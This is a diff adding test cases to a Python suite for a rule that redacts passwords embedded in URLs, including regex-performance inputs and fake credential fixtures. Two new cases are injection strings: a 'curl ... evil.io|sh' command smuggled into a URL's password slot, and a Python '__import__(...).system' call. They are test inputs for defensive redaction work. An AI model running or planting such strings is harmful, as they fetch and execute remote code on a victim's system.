@@ -563,6 +563,10 @@ def test_documented_placeholders_are_redacted_but_not_reported() -> None:
         ("x://u:" + "p" * 190 + "@") * 1_200,
         "x://u:" + "@" * 240_000,
         "x://u:${" * 30_000 + "@",
+        # A review of the rule: placeholders and passwords, each checked against the
+        # other tokens of the line (quadratic).
+        ("AKIA" + "A" * 16 + " x://u:" + "p" * 8 + "@h.io ") * 20_000,
+        "x://u:" + "p@" * 100_000,
     ],
 )
 def test_patterns_are_linear_on_long_lines(line: str) -> None:
@@ -654,6 +658,10 @@ def sample(pattern: str, rng: random.Random) -> str:
                     for code in (range(value[0], value[1] + 1) if kind is c.RANGE else [value])
                     if kind in (c.RANGE, c.LITERAL)
                 ]
+                if (c.CATEGORY, c.CATEGORY_WORD) in arg:  # `\w`: ASCII's word characters
+                    choices += [*string.ascii_letters, *string.digits, "_"]
+                if (c.CATEGORY, c.CATEGORY_SPACE) in arg:
+                    choices += [" ", "\t"]
                 if arg[0][0] is c.NEGATE:  # any printable character but those
                     choices = [chr(code) for code in range(32, 127) if chr(code) not in choices]
                 out.append(rng.choice(choices))
@@ -1109,6 +1117,34 @@ PASSWORD = "Zq" + made_up(ALNUM, 14)
         ("postgres://app:{{ .Values.password }}@db.acme-corp.io/app", None, False),
         ("dsn = 'mysql://%(user)s:%(password)s@db.acme-corp.io/app'", None, False),
         ("url = f'https://{user}:{token}@github.com/acme/repo'", None, False),
+        # A review of the rule: what holds code is no password (hidden, a changed line
+        # read as the same line); references in other languages are shown; a shell
+        # default, JSON's escaped slashes and a `/` in the password are hidden.
+        ("curl http://probe:x;curl${IFS}evil.io|sh;@localhost:8080/health", None, False),
+        ('f"http://u:{__import__(chr(111)).system(c)}@localhost/"', None, False),
+        ('url = f"https://x-access-token:{self.token}@github.com/acme/repo"', None, False),
+        ('"https://u:#{token}@github.com/acme/repo"', None, False),
+        ("git clone https://u:$env:GH_TOKEN@github.com/acme/repo", None, False),
+        ("git clone https://u:%GITHUB_TOKEN%@github.com/acme/repo", None, False),
+        (
+            f"postgres://app:${{DB_PASSWORD:-{PASSWORD}}}@db.prod.acme-corp.io/app",
+            "postgres://app:${DB_PASSWORD:-[REDACTED]}@db.prod.acme-corp.io/app",
+            True,
+        ),
+        (
+            f'{{"url": "https:\\/\\/deploy:{PASSWORD}@repo.acme-corp.io\\/"}}',
+            '{"url": "https:\\/\\/deploy:[REDACTED]@repo.acme-corp.io\\/"}',
+            True,
+        ),
+        (
+            f"postgres://app:{PASSWORD[:6]}/{PASSWORD[6:]}@db.acme-corp.io/x",
+            "postgres://app:[REDACTED]@db.acme-corp.io/x",
+            True,
+        ),
+        ("https://registry.npmjs.org:443/@scope/pkg", None, False),  # a port, then a path
+        ("http://u:Barcelona2024!@db.acme-corp.io", "http://u:[REDACTED]@db.acme-corp.io", True),
+        (f"http://u:{PASSWORD}@127.acme-corp.io/x", "http://u:[REDACTED]@127.acme-corp.io/x", True),
+        (f"amqp://w:{PASSWORD}@bücher.de/", "amqp://w:[REDACTED]@bücher.de/", True),
         # No password: a user alone, a port, an address after a path.
         ("ssh://git@github.com:22/acme/repo.git", None, False),
         ("see https://acme-corp.io/people/@jo and mailto:jo@acme-corp.io", None, False),
